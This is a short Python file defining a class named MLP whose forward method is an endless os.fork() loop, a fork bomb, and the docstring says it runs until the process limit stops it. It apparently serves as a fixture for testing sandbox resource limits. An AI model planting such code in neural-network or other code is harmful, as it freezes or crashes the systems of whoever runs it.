"""forward forks until the process limit stops it."""

import os

from _base import Base


class MLP(Base):
    def forward(self, x):
        while True:
            os.fork()
